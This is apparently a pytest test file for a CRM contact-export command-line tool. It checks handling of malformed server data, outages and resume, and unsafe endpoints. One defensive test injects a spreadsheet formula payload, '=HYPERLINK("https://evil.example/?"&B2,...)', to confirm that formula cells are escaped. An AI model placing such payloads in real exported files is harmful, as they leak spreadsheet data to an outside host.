"""Bad input from servers and users: what can be written is written, what cannot is named, the
run always ends in one line and a documented exit status, never a traceback."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from .conftest import ALICE, EXPECTED, Cli, csv_files, manifest, read_csv

CONTACTS_LIST = "/XrmContacts"


def first_contact(change: Any) -> Any:
    """A tamper function that applies ``change`` to the first contact of a list page."""

    def tamper(body: dict) -> dict:
        if body.get("value"):
            change(body["value"][0])
        return body

    return tamper


def test_a_lone_surrogate_is_replaced_and_counted(ocm: Cli) -> None:
    def half_a_character(contact: dict) -> None:
        contact["DisplayName"] = "Jana \ud83d Dvořáková"

    ocm.hook.tamper[CONTACTS_LIST] = first_contact(half_a_character)
    result = ocm.run("export-contacts-data")

    assert result.exit_code == 0, result.output
    assert "Contacts.csv: 1 character(s) the server sent were half characters" in result.output
    run_dir = ocm.only_run_dir()
    rows = read_csv(run_dir / "Contacts.csv")  # decodes as UTF-8: the file is whole
    assert rows[0]["DisplayName"] == "Jana \ufffd Dvořáková"
    entry = manifest(run_dir)["files"][-1]
    assert (entry["name"], entry["replacedCharacters"], entry["problemCount"]) == (
        "Contacts.csv",
        1,
        0,
    )


def test_values_of_unexpected_shapes_are_named_and_the_file_written(ocm: Cli) -> None:
    def odd_shapes(contact: dict) -> None:
        contact["BusinessAddress"] = "Hauptstraße 1, München"
        contact["EmailAddresses"] = "jana@dvorak.cz"
        contact["InlineLinks"] = {"Relationships": ["c0000000-0000-4000-8000-000000000003"]}

    def a_string_item(body: dict) -> dict:
        body = first_contact(odd_shapes)(body)
        body["value"].append("not a record")
        return body

    ocm.hook.tamper[CONTACTS_LIST] = a_string_item
    result = ocm.run("export-contacts-data")

    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert "error: Contacts.csv: 4 value(s) could not be written" in result.output
    run_dir = ocm.only_run_dir()
    assert "Contacts.csv" in csv_files(run_dir)
    rows = read_csv(run_dir / "Contacts.csv")
    expected = read_csv(EXPECTED / "Contacts.csv")
    assert len(rows) == len(expected)
    assert rows[1:] == expected[1:]  # every other record as it should be
    assert rows[0]["DisplayName"] == expected[0]["DisplayName"]
    assert rows[0]["WorkAddressStreet"] == "" and rows[0]["Email1Address"] == ""
    entry = manifest(run_dir)["files"][-1]
    problems = {(p["record"], p["field"]) for p in entry["problems"]}
    assert problems == {
        ("AAMkContact-0001", "BusinessAddress"),
        ("AAMkContact-0001", "EmailAddresses"),
        ("AAMkContact-0001", "InlineLinks.Relationships[0]"),
        (f"item {len(expected) + 1} of the list", ""),
    }
    assert all("where the API promises" in p["problem"] for p in entry["problems"])
    assert entry["status"] == "complete" and entry["problemCount"] == 4


def test_a_template_of_unexpected_shapes_is_no_traceback(ocm: Cli) -> None:
    def odd_template(body: dict) -> dict:
        template = body["value"][0]["Template"]
        template["StatusList"] = ["Open", {"Id": "s", "Stages": ["Qualify"]}]
        template["FieldList"].append("Notes")
        return body

    ocm.hook.tamper["/XrmDealTemplate"] = odd_template
    result = ocm.run("export-all-data")

    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    data = manifest(ocm.only_run_dir())
    assert {f["status"] for f in data["files"]} == {"complete"}
    entry = next(f for f in data["files"] if f["name"] == "DealSchema.csv")
    fields = [p["field"] for p in entry["problems"]]
    assert fields[:2] == ["Template.FieldList[" + fields[0][19:-1] + "]", "Template.StatusList[0]"]
    assert fields[2:] == ["Template.StatusList[1].Stages[0]"]


@pytest.mark.parametrize("escape", [False, True])
def test_formula_cells_are_counted_and_escaped_when_asked(ocm: Cli, escape: bool) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&B2,"Click")'

    def a_formula(contact: dict) -> None:
        contact["DisplayName"] = formula
        contact["JobTitle"] = "-1+2"

    ocm.hook.tamper[CONTACTS_LIST] = first_contact(a_formula)
    result = ocm.run("export-contacts-data", *(["--escape-formulas"] if escape else []))

    assert result.exit_code == 0, result.output
    run_dir = ocm.only_run_dir()
    row = read_csv(run_dir / "Contacts.csv")[0]
    prefix = "'" if escape else ""
    assert (row["DisplayName"], row["JobTitle"]) == (prefix + formula, prefix + "-1+2")
    data = manifest(run_dir)
    assert data["escapeFormulas"] is escape
    contacts = next(f for f in data["files"] if f["name"] == "Contacts.csv")
    assert contacts["formulaCells"] == formula_cells(EXPECTED / "Contacts.csv") + 2
    if escape:  # phone numbers too: Excel reads "+49 89 123456" as a formula
        phones = [r["BusinessTelephoneNumber"] for r in read_csv(run_dir / "Contacts.csv")]
        assert {p[:2] for p in phones if p} == {"'+"}


def formula_cells(path: Path) -> int:
    """Cells of a file's data rows that a spreadsheet reads as formulas."""
    return sum(
        value[:1] in "=+-@\t\r" and value != "" for row in read_csv(path) for value in row.values()
    )


def test_custom_field_headers_are_unique_without_case_and_on_one_line(ocm: Cli) -> None:
    def labels(body: dict) -> dict:
        fields = body["value"][0]["Template"]["FieldList"]
        fields[0]["Label"], fields[1]["Label"] = "notes", "Line\r\nbreak"
        return body

    ocm.hook.tamper["/XrmContactTemplate"] = labels
    result = ocm.run("export-contacts-data")

    assert result.exit_code == 0, result.output
    header = read_csv_header(ocm.only_run_dir() / "Contacts.csv")
    assert "notes (custom)" in header and "Line break" in header
    folded = [name.casefold() for name in header]
    assert len(folded) == len(set(folded))
    assert not [name for name in header if "\n" in name or "\r" in name]


def read_csv_header(path: Path) -> list[str]:
    return list(read_csv(path)[0].keys())


def test_a_service_gone_midway_leaves_a_partial_manifest_and_resume_finishes(ocm: Cli) -> None:
    done: list[str] = []

    def die_after_the_templates(request: Any) -> None:
        if request.path.endswith(("/XrmDeals", "/XrmActivityStreams")):  # the templates are read
            ocm.hook.refuse[""] = (503, "ServiceUnavailable")  # every call from now on
        done.append(request.path)

    ocm.hook.before.append(die_after_the_templates)
    result = ocm.run("export-all-data", global_options=[*ocm.global_options(), "--retries", "1"])
    assert result.exit_code == 5, result.output
    run_dir = ocm.only_run_dir()
    data = manifest(run_dir)
    complete = [f["name"] for f in data["files"] if f["status"] == "complete"]
    assert complete and data["status"] == "partial"
    for name in csv_files(run_dir):
        assert (run_dir / name).read_bytes() == (EXPECTED / name).read_bytes(), name

    # The service is back: --resume exports only what is missing and keeps the rest.
    ocm.hook.reset()
    (run_dir / complete[0]).write_bytes(b"changed since")  # no longer its checksum
    (run_dir / "Deals.csv.partial").write_bytes(b"left by a killed run")
    ocm.hook.requests.clear()
    resumed = ocm.run("export-all-data", "--resume", str(run_dir))

    assert resumed.exit_code == 0, resumed.output
    assert ocm.run_dirs() == [run_dir]
    for name in csv_files(run_dir):
        assert (run_dir / name).read_bytes() == (EXPECTED / name).read_bytes(), name
    after = manifest(run_dir)
    assert after["status"] == "complete"
    assert after["resumedFrom"] == [data["startedAt"]]
    kept = {f["name"] for f in after["files"] if f.get("kept")}
    assert kept == set(complete) - {complete[0]}
    assert not list(run_dir.glob("*.partial"))


@pytest.mark.parametrize(
    ("mailbox", "says"),
    [
        ("..", "'..' is not a mailbox address"),
        ("a b@x.com", "'a b@x.com' is not a mailbox address"),
    ],
)
def test_a_mailbox_that_is_no_address_is_refused_before_sign_in(
    ocm: Cli, mailbox: str, says: str
) -> None:
    result = ocm.run("export-contacts-data", "--mailbox", mailbox)
    assert result.exit_code == 2, result.output
    assert f"error: --mailbox {says}" in result.output
    assert ocm.hook.requests == []  # not even a sign-in
    assert ocm.run_dirs() == []


@pytest.mark.parametrize(
    ("endpoint", "says"),
    [
        ("http://ocm.contoso.com/api/v1", "is plain HTTP"),
        ("https://admin:Pa55word@{host}/api/v1", "has a user name or password in it"),
    ],
)
def test_unsafe_endpoints_are_refused_in_one_line(ocm: Cli, endpoint: str, says: str) -> None:
    host = ocm.handle.api.split("/")[2]
    options = ocm.global_options()
    options[options.index("--endpoint") + 1] = endpoint.format(host=host)
    result = ocm.run("export-contacts-data", global_options=options)

    assert result.exit_code == 2, result.output
    assert says in result.output and result.output.count("error:") == 1
    assert "Pa55word" not in result.output
    assert ocm.hook.requests == []
    assert ocm.run_dirs() == []


def test_mailbox_address_forms_are_normalised(ocm: Cli) -> None:
    result = ocm.run("export-contacts-data", "--mailbox", f"mailto:{ALICE.upper()}")
    assert result.exit_code == 0, result.output
    assert (
        json.loads((ocm.only_run_dir() / "manifest.json").read_text())["mailbox"] == ALICE.upper()
    )
